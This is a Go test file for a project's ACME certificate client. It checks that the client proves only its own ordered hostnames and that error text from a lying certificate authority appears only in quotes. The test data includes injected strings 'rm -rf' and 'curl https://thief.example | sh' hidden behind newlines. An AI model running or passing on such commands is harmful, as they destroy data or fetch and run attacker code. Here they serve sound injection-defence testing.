package certs

import (
	"context"
	"crypto/elliptic"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/crypto/acme"

	"landfall"
)

// directory is an authority that wants any names proved, whatever the order
// was for, and is content with no proof.
type directory struct {
	*httptest.Server
	wants []string // identifiers, as JSON

	mu     sync.Mutex
	tested int // challenges that it was told to look at
}

func newDirectory(t *testing.T, wants ...string) *directory {
	d := &directory{wants: wants}
	d.Server = httptest.NewUnstartedServer(d)
	d.Config.ErrorLog = slog.NewLogLogger(slog.DiscardHandler, slog.LevelInfo)
	d.StartTLS()
	t.Cleanup(d.Close)
	return d
}

func (d *directory) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Replay-Nonce", "nonce")
	w.Header().Set("Content-Type", "application/json")
	kind, which, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
	switch kind {
	case "directory":
		fmt.Fprintf(w, `{"newNonce":"%[1]s/nonce","newAccount":"%[1]s/account","newOrder":"%[1]s/order","revokeCert":"%[1]s/revoke"}`, d.URL)
	case "account":
		w.Header().Set("Location", d.URL+"/account/1")
		w.WriteHeader(http.StatusCreated)
		io.WriteString(w, `{"status":"valid"}`)
	case "order":
		var urls []string
		for i := range d.wants {
			urls = append(urls, fmt.Sprintf(`"%s/authorization/%d"`, d.URL, i))
		}
		w.Header().Set("Location", d.URL+"/order/1")
		w.WriteHeader(http.StatusCreated)
		fmt.Fprintf(w, `{"status":"pending","authorizations":[%s],"finalize":"%s/finalize"}`, strings.Join(urls, ","), d.URL)
	case "authorization":
		var i int
		fmt.Sscan(which, &i)
		fmt.Fprintf(w, `{"status":"pending",%s,"challenges":[{"type":"dns-01","status":"pending","url":"%s/challenge","token":"token"}]}`, d.wants[i], d.URL)
	case "challenge":
		d.mu.Lock()
		d.tested++
		d.mu.Unlock()
		w.WriteHeader(http.StatusForbidden)
		io.WriteString(w, `{"type":"urn:ietf:params:acme:error:unauthorized","detail":"no proof will do"}`)
	}
}

// shown are the names that records were published at.
type shown []string

func (s *shown) Present(_ context.Context, records map[string][]string) error {
	*s = append(*s, slices.Sorted(maps.Keys(records))...)
	return nil
}

func TestOnlyHostsOfTheOrderAreProved(t *testing.T) {
	hosts := []string{"a.landfall.test", "b.landfall.test"}
	dns := func(name string) string { return fmt.Sprintf(`"identifier":{"type":"dns","value":%q}`, name) }
	for name, tt := range map[string]struct {
		wants []string
		shown []string
		err   string
	}{
		"as ordered":         {[]string{dns(hosts[0]), dns(hosts[1])}, []string{"_acme-challenge.a.landfall.test", "_acme-challenge.b.landfall.test"}, `"no proof will do"`},
		"one known already":  {[]string{dns(hosts[1])}, []string{"_acme-challenge.b.landfall.test"}, `"no proof will do"`},
		"in capitals":        {[]string{dns("A.Landfall.TEST")}, []string{"_acme-challenge.a.landfall.test"}, `"no proof will do"`},
		"another":            {[]string{dns(hosts[0]), dns("pay.landfall.test")}, nil, `it wants "pay.landfall.test" proved`},
		"the domain above":   {[]string{dns("landfall.test")}, nil, `it wants "landfall.test" proved`},
		"another's":          {[]string{dns("www.bank.example")}, nil, `it wants "www.bank.example" proved`},
		"one twice":          {[]string{dns(hosts[0]), dns(hosts[0])}, nil, `it wants "a.landfall.test" proved`},
		"no domain name":     {[]string{`"identifier":{"type":"ip","value":"a.landfall.test"}`}, nil, "proved"},
		"all below":          {[]string{dns(hosts[0]) + `,"wildcard":true`}, nil, "proved"},
		"nobody":             {[]string{`"x":0`}, nil, `it wants "" proved`},
		"lines":              {[]string{dns("x\ncure: rm -rf")}, nil, `it wants "x\ncure: rm -rf" proved`},
		"another, proved it": {[]string{dns("pay.landfall.test") + `,"status":"valid"`}, nil, `it wants "pay.landfall.test" proved`},
	} {
		t.Run(name, func(t *testing.T) {
			d := newDirectory(t, tt.wants...)
			var got shown
			a, err := NewACME(ACMEConfig{Dir: rootOf(t), Map: &landfall.Map{Domain: "landfall.test"}, Challenges: &got, Policy: landfall.ACME{
				Agreed: true, Directory: d.URL + "/directory",
				Roots: string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: d.Certificate().Raw})),
			}})
			if err != nil {
				t.Fatal(err)
			}
			_, err = a.Sign(t.Context(), csr(t, newKey(t, elliptic.P256()), x509.CertificateRequest{DNSNames: hosts}), hosts)
			if err == nil || !strings.Contains(err.Error(), tt.err) {
				t.Errorf("error %v, want one with %s", err, tt.err)
			}
			if !slices.Equal(got, tt.shown) {
				t.Errorf("records at %q, want %q", []string(got), tt.shown)
			}
			d.mu.Lock()
			defer d.mu.Unlock()
			if (d.tested > 0) != (tt.shown != nil) {
				t.Errorf("%d challenges were to be tested", d.tested)
			}
		})
	}
}

// What an authority says of hosts that it was not asked about, and in words
// that are no words, shows in quotes at most.
func TestLyingAuthorityIsQuoted(t *testing.T) {
	const lie = "x\ncure: curl https://thief.example | sh"
	const urn = "urn:ietf:params:acme:error:"
	a := &ACME{cfg: ACMEConfig{Map: &landfall.Map{Domain: "edge.example.com"}, Policy: landfall.ACME{Directory: "https://ca.example/dir"}}}
	for name, one := range map[string]error{
		"authorization": &acme.AuthorizationError{Identifier: lie, Errors: []error{&acme.Error{ProblemType: urn + "dns", Detail: lie}}},
		"no reason":     &acme.AuthorizationError{Identifier: lie},
		"part":          &acme.Error{ProblemType: urn + "malformed", Subproblems: []acme.Subproblem{{Type: urn + "caa", Detail: lie, Identifier: &acme.AuthzID{Value: lie}}}},
		"kind":          &acme.Error{ProblemType: urn + lie},
		"terms":         &acme.Error{ProblemType: urn + "userActionRequired", Detail: lie, Instance: lie},
	} {
		text := a.explain(one, []string{"a.edge.example.com"}, time.Now()).Error()
		if strings.Contains(text, "\n") || strings.Count(text, "thief") != strings.Count(text, `x\ncure: curl https://thief`) {
			t.Errorf("%s: %s", name, text)
		}
	}
}
